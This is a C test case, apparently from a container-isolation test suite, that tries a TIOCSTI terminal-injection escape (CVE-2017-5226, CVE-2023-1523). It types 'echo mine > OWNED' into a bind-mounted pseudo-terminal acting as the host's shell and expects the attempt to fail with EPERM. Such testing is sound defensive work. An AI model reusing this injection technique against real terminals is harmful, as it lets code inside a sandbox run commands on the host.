// SPDX-License-Identifier: GPL-2.0-only
/*
 * A terminal that the container was started from is read by the host's shell
 * once the container ends, or even before: TIOCSTI types into it. With
 * CAP_SYS_ADMIN any terminal will do. CVE-2017-5226 (bubblewrap),
 * CVE-2023-1523 (snap).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>
#include <linux/capability.h>

#include "escape.h"
#include "tap.h"

#define CONSOLE	"/dev/console"

static int master = -1;
static pid_t shell;
static char slave[64];

/* The host's shell: it does what it reads. */
static void __attribute__((noreturn)) live(void)
{
	int fd;

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	setsid();
	fd = open(slave, O_RDWR);
	dup2(fd, 0);
	dup2(fd, 1);
	dup2(fd, 2);
	execlp("sh", "sh", "-s", NULL);
	_exit(127);
}

/* The place for the engine's bind mount has a name that doesn't change. */
static void start_shell(struct args *a)
{
	(void)a;
	master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (master < 0 || grantpt(master) || unlockpt(master) ||
	    ptsname_r(master, slave, sizeof(slave)))
		bail("a terminal: %m");
	unlink(TOP "/terminal");
	put_file(TOP "/terminal", "");
	mount_at(slave, TOP "/terminal", NULL, MS_BIND, NULL);
	shell = fork();
	if (!shell)
		live();
}

static void end_shell(void)
{
	kill(shell, SIGKILL);
	waitpid(shell, NULL, 0);
	umount2(TOP "/terminal", MNT_DETACH);
	close(master);
}

static int attempt(const struct args *a)
{
	static const char line[] = "echo mine >" OWNED "\n";
	int fd = open(CONSOLE, O_RDWR | O_NOCTTY);
	const char *c;

	(void)a;
	if (fd < 0)
		return errno;
	for (c = line; *c; c++)
		if (ioctl(fd, TIOCSTI, c))
			return errno;
	return 0;
}

const struct escape tiocsti[] = {
	{ "a line typed into the host's shell",
	  { .caps = CAP(CAP_SYS_ADMIN), .volumes = { TOP "/terminal", CONSOLE } },
	  start_shell, .attempt = attempt, .escaped = owned, .restore = end_shell,
	  .error = EPERM, .act = BULKHEAD_ACT_TAMPER, .rule = "preset ptrace" },
	{ NULL }
};
